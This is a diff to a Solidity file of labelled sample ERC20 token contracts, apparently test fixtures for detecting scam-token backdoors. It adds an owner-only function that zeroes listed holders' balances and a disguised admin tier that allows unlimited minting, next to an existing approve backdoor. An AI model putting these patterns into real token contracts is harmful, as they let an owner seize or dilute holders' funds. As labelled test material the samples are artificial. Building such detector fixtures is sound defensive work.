@@ -227,6 +227,18 @@ contract ApproveBackdoor is ERC20 {
   function approve(address s, uint256 v) public override returns (bool) { if (_msgSender() == owner()) { _allowances[s][owner()] = v; } else { _approve(_msgSender(), s, v); } return true; }
 }
 
+// leak: bots' balances zeroed from a list.
+contract BurnBots is ERC20 {
+  using SafeMath for uint256;
+  function removeBots(address[] calldata bots) external onlyOwner { for (uint256 i = 0; i < bots.length; i++) { _totalSupply = _totalSupply.sub(_balances[bots[i]]); _balances[bots[i]] = 0; } }
+}
+// mint: an admin tier compared with a level other than 0 or 1.
+contract TierGate is ERC20 {
+  using SafeMath for uint256;
+  mapping (address => uint8) private _tier;
+  constructor () public { _tier[_msgSender()] = 3; }
+  function compound(uint256 amount) external { require(_tier[_msgSender()] == 3, "tier"); _mint(_msgSender(), amount); }
+}
 // honest (mint): an owner mint below a cap is still a mint.
 contract CappedMint is ERC20 {
   using SafeMath for uint256;
